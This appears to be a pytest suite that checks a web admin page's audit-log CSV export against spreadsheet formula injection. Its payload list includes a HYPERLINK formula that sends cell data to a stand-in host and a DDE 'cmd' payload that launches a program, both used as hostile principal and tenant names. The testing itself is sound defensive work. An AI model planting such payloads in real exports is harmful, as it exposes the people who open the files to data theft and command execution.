"""The audit log's CSV export against hostile values: principals and tenants named like
formulas (a token's subject is the identity provider's to choose), paths, reasons, quotes,
separators and line breaks. The export is made in the browser (``admin.js``: the page pages
through ``/v1/audit``), so its own cell function runs here in Debian's Chromium over the
records a real server answered, and the file is read back with Python's ``csv``: one row per
record, every cell as it was, none that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Page

from server.support import running

from .people import launched
from .test_chat_api import _everyday, _h, _server

ADMIN_JS = (
    Path(__file__).resolve().parents[2] / "src" / "bastion" / "server" / "static" / "admin.js"
)
FORMULA = ("=", "+", "-", "@")
HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    '=1,2"3',
    "a=b",
    " =1+1",
    "\u00a0\u3000@SUM(1)",
]


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    # made before Chromium starts: building the app runs an event loop of its own
    with running(_server(_everyday())) as url:
        yield url


@pytest.fixture(scope="module")
def browser(site: str) -> Iterator[Browser]:
    yield from launched()


@pytest.fixture(scope="module")
def page(browser: Browser) -> Iterator[Page]:
    """A blank page holding the export's own ``COLUMNS`` and ``csvCell`` from ``admin.js``."""
    source = ADMIN_JS.read_text(encoding="utf-8")
    columns = re.search(r"^const COLUMNS = .*?;$", source, re.M)
    cell = re.search(
        r"^function csvCell\(value\) \{\n.*?^\}$",
        source.replace("export function csvCell", "function csvCell"),
        re.M | re.S,
    )
    assert columns and cell, "admin.js no longer has COLUMNS and csvCell where this test looks"
    context = browser.new_context()
    opened = context.new_page()
    opened.goto("about:blank")
    defined = "window.COLUMNS = COLUMNS; window.csvCell = csvCell;"
    opened.evaluate(f"() => {{ {columns.group(0)}\n{cell.group(0)}\n{defined} }}")
    yield opened
    context.close()


def _export(page: Page, records: list[dict[str, Any]]) -> str:
    """The file ``exportCsv`` builds from ``records`` (newest first, CRLF lines)."""
    script = """(records) => {
      const lines = [COLUMNS.join(",")];
      for (const r of records.slice().reverse()) {
        lines.push(COLUMNS.map((c) => csvCell(
          c === "time" ? new Date(r.time * 1000).toISOString() : r[c])).join(","));
      }
      return lines.join("\\r\\n") + "\\r\\n";
    }"""
    text: str = page.evaluate(script, records)
    return text


def _formula_like(cell: str) -> bool:
    """What a spreadsheet may run: a formula character first, or after blanks it trims."""
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(FORMULA)


def _cells_are_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not _formula_like(cell), (cell, row)


def _as_written(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and _formula_like(cell[1:]) else cell


def test_records_of_principals_named_like_formulas_export_inert(site: str, page: Page) -> None:
    start = time.time()
    with httpx.Client(base_url=site, timeout=30) as c:
        for name in HOSTILE:
            who = _h(name, tenant=name)
            assert c.get("/v1/files/stat", params={"path": "/docs/plover.md"}, headers=who)
            c.get("/v1/files/read", params={"path": "/docs/=cmd|calc.md"}, headers=who)
            c.get("/v1/files/read", params={"path": "=1+1"}, headers=who)
        records = [  # an operator sees its own tenant's records: ask one of each tenant
            record
            for name in HOSTILE
            for record in c.get(
                "/v1/audit",
                params={"since": start, "limit": 1000},
                headers=_h("o", roles=("ops",), tenant=name),
            ).json()["records"]
        ]
    assert {r["principal"] for r in records} == set(HOSTILE)
    text = _export(page, records)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(records)  # no value broke a line or a cell
    _cells_are_inert(body)
    columns = header
    for row, record in zip(body, reversed(records), strict=True):
        for column, cell in zip(columns, row, strict=True):
            if column == "time":
                continue
            value = record[column]
            expected = "" if value is None else str(value)
            if isinstance(value, bool):
                expected = expected.lower()
            assert _as_written(cell) == expected, (column, cell, value)


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+1",
        "-1",
        "@A1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "   -1",
        "\u00a0+1",
        "\u3000=1",
        " \t=1",
        '"=1+1',
        "a\r\n=1+1,b",
        "x\n@SUM(A1)\r\n-1",
        'he said "hi", then =1',
        "plain",
        "",
    ],
)
def test_any_value_is_one_inert_cell(page: Page, value: str) -> None:
    record = {"time": 0, "principal": value, "tenant": value, "operation": value, "path": value,
              "target": value, "allowed": False, "reason": value, "bytes": 0, "duration_ms": 0}  # fmt: skip
    rows = list(csv.reader(io.StringIO(_export(page, [record]), newline="")))
    assert len(rows) == 2 and len(rows[1]) == len(rows[0])
    _cells_are_inert(rows[1:])
    for column, cell in zip(rows[0], rows[1], strict=True):
        if column in ("principal", "tenant", "operation", "path", "target", "reason"):
            assert _as_written(cell) == value, (column, cell)
